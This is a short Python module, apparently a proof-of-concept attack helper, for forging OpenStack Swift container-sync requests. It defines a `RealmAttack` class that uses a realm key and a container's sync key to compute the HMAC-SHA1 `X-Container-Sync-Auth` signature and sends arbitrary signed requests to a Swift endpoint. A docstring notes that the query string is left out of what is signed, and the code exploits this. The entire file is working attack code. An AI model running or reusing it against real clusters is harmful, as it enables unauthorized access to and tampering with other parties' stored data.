"""Requests to a Swift as container-sync signs them: what both its keys together open.

Whoever owns the other site has the realm's key, in its Swift's configuration, and any member's
sync key, which is shown to the member (swift/common/container_sync_realms.py of 2.38.3).
"""

from __future__ import annotations

import hashlib
import hmac
import time
import uuid
from collections.abc import Mapping
from dataclasses import dataclass
from urllib.parse import urlsplit

import requests


@dataclass(frozen=True)
class RealmAttack:
    """`url` is the Swift's, up to its version; `user_key` is one container's."""

    url: str
    realm: str
    realm_key: str
    user_key: str

    def send(
        self, method: str, path: str, headers: Mapping[str, str] | None = None, body: bytes = b""
    ) -> int:
        """The status that it is answered with; the signature covers no question in `path`."""
        stamp, nonce = f"{time.time():.5f}", uuid.uuid4().hex
        signed = f"{urlsplit(self.url).path}{path.partition('?')[0]}"
        text = "\n".join((method, signed, stamp, nonce, self.user_key))
        mark = hmac.new(self.realm_key.encode(), text.encode(), hashlib.sha1).hexdigest()
        own = {"X-Timestamp": stamp, "X-Container-Sync-Auth": f"{self.realm} {nonce} {mark}"}
        return requests.request(
            method, self.url + path, headers={**own, **(headers or {})}, data=body, timeout=60
        ).status_code
